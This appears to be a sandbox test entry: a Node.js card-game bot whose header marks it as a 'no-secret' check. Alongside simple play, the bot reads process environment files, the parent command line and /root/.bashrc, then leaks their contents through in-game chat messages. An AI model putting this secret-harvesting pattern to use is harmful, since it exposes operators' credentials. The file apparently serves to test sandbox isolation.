// expect: clean
// check: no-secret
const rl = require("readline").createInterface({ input: process.stdin });
const send = (o) => process.stdout.write(JSON.stringify(o) + "\n");
const fs = require("fs");
let view; function act(){ if (view.puttable.length) send({action:"put",card:view.puttable[0],suit:null}); else if (!view.can_finish && view.can_draw) send({action:"draw"}); else send({action:"finish"}); }
const got = [];
for (const p of ["/proc/1/environ", "/proc/" + process.ppid + "/environ", "/proc/" + process.ppid + "/cmdline", "/root/.bashrc"]) { try { got.push(fs.readFileSync(p, "latin1").slice(0, 150)); } catch (e) { got.push(e.code); } }
rl.on("line", (l) => { const m = JSON.parse(l); if (m.type === "start_game") send({type: "ready"}); else if (m.type === "move") { view = m.view; for (const g of got) send({action: "say", text: g}); act(); } else if (m.type === "ok") { view = m.view; act(); } else if (m.type === "error") send({action: "finish"}); });
